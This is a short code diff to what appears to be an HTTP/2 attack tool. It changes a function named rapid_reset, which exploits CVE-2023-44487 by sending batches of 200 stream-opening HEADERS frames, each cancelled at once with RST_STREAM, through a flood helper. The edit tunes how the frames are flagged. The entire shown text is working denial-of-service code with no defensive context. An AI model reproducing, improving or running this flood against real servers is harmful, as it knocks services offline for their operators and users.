@@ -41,7 +41,7 @@ def rapid_reset(target: Target) -> Iterator[int]:
     """CVE-2023-44487: calls with a key that are cancelled as soon as they are sent."""
 
     def pieces(number: int) -> bytes:
-        return headers(target, number, END_STREAM) + reset_frame(number, 8)
+        return headers(target, number, 0) + reset_frame(number, 8)
 
     return _flood(target, lambda first: b"".join(pieces(first + 2 * each) for each in range(200)), step=400)
 
